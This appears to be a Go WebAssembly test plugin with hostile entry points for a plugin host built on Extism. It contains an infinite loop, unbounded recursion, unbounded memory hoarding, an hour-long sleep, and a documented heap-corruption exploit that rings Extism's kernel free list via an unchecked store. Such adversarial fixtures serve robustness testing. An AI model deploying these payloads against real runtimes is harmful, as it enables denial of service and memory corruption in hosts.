//go:build wasip1

package main

import (
	"time"

	"stella-ops.org/doctor/sdk"
	"stella-ops.org/doctor/sdk/wire"
)

// sink keeps the compiler from proving that the work below is in vain.
var sink uint64

func loop(*sdk.Env) wire.Result {
	for {
		sink++
	}
}

func recurse(*sdk.Env) wire.Result {
	sink = deeper(1)
	return pass(nil)
}

func deeper(n uint64) uint64 { return deeper(n+1) + n }

func hoard(*sdk.Env) wire.Result {
	var all [][]byte
	for {
		b := make([]byte, 1<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		all = append(all, b)
		sink += uint64(len(all))
	}
}

func sleep(*sdk.Env) wire.Result {
	time.Sleep(time.Hour)
	return pass(nil)
}

// kernelHeap makes the free list of Extism's kernel a ring and then has the
// host allocate in it. The words of a block before its data are status, size
// and use, 4 bytes each, and a word store reaches them because the kernel does
// not check it. With size -12 the block is its own successor. The list is
// searched only when the memory is full, so it is filled first: past the size
// that it begins with, memory ends at the next boundary of a page.
func kernelHeap(e *sdk.Env) wire.Result {
	const page, beginsWith, almost = 64 << 10, 1 << 20, 200
	req := wire.HTTPRequest{Method: "GET", URL: e.Text(target)}
	request := writeBlock(wire.Marshal(&req))
	last := kernelAlloc(beginsWith)
	for left := uint64(page); left > almost; left = page - last%page {
		size := uint64(32)
		if left > 2*almost+1024 {
			size = left - almost - 1024
		}
		if last = kernelAlloc(size); last == 0 {
			return pass(nil) // the limit was met before the end of a page
		}
		last += size
	}
	last = kernelAlloc(8)
	const minusTwelve = 1<<32 - 12
	kernelStore64(last-8, minusTwelve|8<<32)
	httpRead(request)
	return pass(nil)
}
